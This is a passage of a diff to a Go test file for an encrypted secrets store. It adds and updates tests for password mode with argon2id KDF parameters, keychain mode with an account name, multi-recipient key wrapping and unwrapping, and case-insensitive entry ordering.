+	t.Run("returns error for non-password mode", func(t *testing.T) {
+		file := &File{Encryption: EncryptionHeader{Mode: "keychain"}}
+		err := file.VerifyKey(key)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "file is not password-protected")
+	})
+}
+
 func TestSetPasswordMode(t *testing.T) {
 	t.Run("sets password mode and returns key", func(t *testing.T) {
 		file := &File{}
 		password := "test-password"
 
-		key, err := file.SetPasswordMode(password)
+		key, err := file.SetPasswordMode(password, crypto.DefaultKDFParams)
 		require.NoError(t, err)
 		require.NotNil(t, key)
 		require.Len(t, key, crypto.KeySize)
@@ -436,6 +1198,22 @@ func TestSetPasswordMode(t *testing.T) {
 		require.Equal(t, "password", file.Encryption.Mode)
 		require.NotEmpty(t, file.Encryption.Salt)
 		require.NotEmpty(t, file.Encryption.Verifier)
+		require.Equal(t, "argon2id", file.Encryption.KDF.Name)
+		require.Equal(
+			t,
+			crypto.DefaultKDFParams.Memory,
+			file.Encryption.KDF.Memory,
+		)
+	})
+
+	t.Run("rejects weak parameters", func(t *testing.T) {
+		file := &File{}
+		_, err := file.SetPasswordMode(
+			"test-password",
+			crypto.KDFParams{Memory: 1024, Iterations: 1, Parallelism: 1},
+		)
+		require.Error(t, err)
+		require.Empty(t, file.Encryption.Mode)
 	})
 
 	t.Run("produces different salts on each call", func(t *testing.T) {
@@ -443,9 +1221,9 @@ func TestSetPasswordMode(t *testing.T) {
 		file2 := &File{}
 		password := "test-password"
 
-		_, err1 := file1.SetPasswordMode(password)
+		_, err1 := file1.SetPasswordMode(password, crypto.DefaultKDFParams)
 		require.NoError(t, err1)
-		_, err2 := file2.SetPasswordMode(password)
+		_, err2 := file2.SetPasswordMode(password, crypto.DefaultKDFParams)
 		require.NoError(t, err2)
 
 		require.NotEqual(t, file1.Encryption.Salt, file2.Encryption.Salt)
@@ -455,7 +1233,7 @@ func TestSetPasswordMode(t *testing.T) {
 		file := &File{}
 		password := "test-password"
 
-		key, err := file.SetPasswordMode(password)
+		key, err := file.SetPasswordMode(password, crypto.DefaultKDFParams)
 		require.NoError(t, err)
 
 		verifiedKey, err := file.VerifyPassword(password)
@@ -474,19 +1252,24 @@ func TestSetKeychainMode(t *testing.T) {
 			},
 		}
 
-		file.SetKeychainMode()
+		file.SetKeychainMode("encryption-key-test")
 
 		require.Equal(t, "keychain", file.Encryption.Mode)
+		require.Equal(
+			t,
+			"encryption-key-test",
+			file.Encryption.KeychainAccount,
+		)
 		require.Empty(t, file.Encryption.Salt)
 		require.Empty(t, file.Encryption.Verifier)
 	})
 
 	t.Run("overwrites existing encryption", func(t *testing.T) {
 		file := &File{}
-		_, err := file.SetPasswordMode("password")
+		_, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
 		require.NoError(t, err)
 
-		file.SetKeychainMode()
+		file.SetKeychainMode("encryption-key-test")
 
 		require.Equal(t, "keychain", file.Encryption.Mode)
 		require.Empty(t, file.Encryption.Salt)
@@ -494,10 +1277,94 @@ func TestSetKeychainMode(t *testing.T) {
 	})
 }
 
+func TestSetRecipientsMode(t *testing.T) {
+	key, err := crypto.GenerateKey()
+	require.NoError(t, err)
+	identity1, recipient1, err := crypto.GenerateIdentity()
+	require.NoError(t, err)
+	identity2, recipient2, err := crypto.GenerateIdentity()
+	require.NoError(t, err)
+
+	t.Run("wraps key for each recipient", func(t *testing.T) {
+		file := &File{}
+		err := file.SetRecipientsMode(key, []string{recipient1, recipient2})
+		require.NoError(t, err)
+
+		require.Equal(t, "recipients", file.Encryption.Mode)
+		require.Equal(
+			t,
+			[]string{recipient1, recipient2},
+			file.RecipientKeys(),
+		)
+
+		for _, identity := range []string{identity1, identity2} {
+			unwrapped, err := file.UnwrapKey(identity)
+			require.NoError(t, err)
+			require.Equal(t, key, unwrapped)
+		}
+	})
+
+	t.Run("skips duplicate recipients", func(t *testing.T) {
+		file := &File{}
+		err := file.SetRecipientsMode(key, []string{recipient1, recipient1})
+		require.NoError(t, err)
+		require.Equal(t, []string{recipient1}, file.RecipientKeys())
+	})
+
+	t.Run("overwrites existing encryption", func(t *testing.T) {
+		file := &File{}
+		_, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
+		require.NoError(t, err)
+
+		err = file.SetRecipientsMode(key, []string{recipient1})
+		require.NoError(t, err)
+		require.Empty(t, file.Encryption.Salt)
+		require.Empty(t, file.Encryption.Verifier)
+	})
+
+	t.Run("rejects no recipients", func(t *testing.T) {
+		file := &File{}
+		require.Error(t, file.SetRecipientsMode(key, nil))
+	})
+
+	t.Run("rejects invalid recipient", func(t *testing.T) {
+		file := &File{}
+		err := file.SetRecipientsMode(key, []string{"invalid"})
+		require.Error(t, err)
+		require.False(t, file.Encrypted())
+	})
+}
+
+func TestUnwrapKey(t *testing.T) {
+	key, err := crypto.GenerateKey()
+	require.NoError(t, err)
+	identity, recipient, err := crypto.GenerateIdentity()
+	require.NoError(t, err)
+
+	t.Run("fails for other identity", func(t *testing.T) {
+		file := &File{}
+		require.NoError(t, file.SetRecipientsMode(key, []string{recipient}))
+
+		other, _, err := crypto.GenerateIdentity()
+		require.NoError(t, err)
+		_, err = file.UnwrapKey(other)
+		require.ErrorContains(t, err, "not a recipient")
+	})
+
+	t.Run("fails for password mode", func(t *testing.T) {
+		file := &File{}
+		_, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
+		require.NoError(t, err)
+
+		_, err = file.UnwrapKey(identity)
+		require.Error(t, err)
+	})
+}
+
 func TestClearEncryption(t *testing.T) {
 	t.Run("clears password encryption", func(t *testing.T) {
 		file := &File{}
-		_, err := file.SetPasswordMode("password")
+		_, err := file.SetPasswordMode("password", crypto.DefaultKDFParams)
 		require.NoError(t, err)
 
 		file.ClearEncryption()
@@ -510,7 +1377,7 @@ func TestClearEncryption(t *testing.T) {
 
 	t.Run("clears keychain encryption", func(t *testing.T) {
 		file := &File{}
-		file.SetKeychainMode()
+		file.SetKeychainMode("encryption-key-test")
 
 		file.ClearEncryption()
 
@@ -535,3 +1402,43 @@ func TestEncryptionHeaderEnabled(t *testing.T) {
 		require.True(t, header.Enabled())
 	})
 }
+
+func TestCompare(t *testing.T) {
+	t.Run("orders by name case-insensitively", func(t *testing.T) {
+		require.Negative(t, Compare(Entry{Name: "abc"}, Entry{Name: "ABD"}))
+		require.Positive(t, Compare(Entry{Name: "B"}, Entry{Name: "a"}))
+	})
+
+	t.Run("orders by label when names are equal", func(t *testing.T) {
+		a := Entry{Name: "VAR", Label: "Local"}
+		b := Entry{Name: "VAR", Label: "staging"}
+		require.Negative(t, Compare(a, b))
+		require.Positive(t, Compare(b, a))
+	})
+
+	t.Run("returns zero for equal name and label", func(t *testing.T) {
+		a := Entry{Name: "VAR", Label: "x", Value: "1"}
+		b := Entry{Name: "var", Label: "X", Value: "2"}
+		require.Zero(t, Compare(a, b))
+	})
+}
+
+// encryptValue encrypts plaintext as the value of the entry named name in
+// file.
+func encryptValue(
+	t *testing.T,
+	key []byte,
+	file *File,
+	name string,
+	plaintext string,
+) string {
+	t.Helper()
+
+	encrypted, err := crypto.Encrypt(
+		key,
+		plaintext,
+		file.associatedData(Entry{Name: name}),
+	)
+	require.NoError(t, err)
+	return encrypted
+}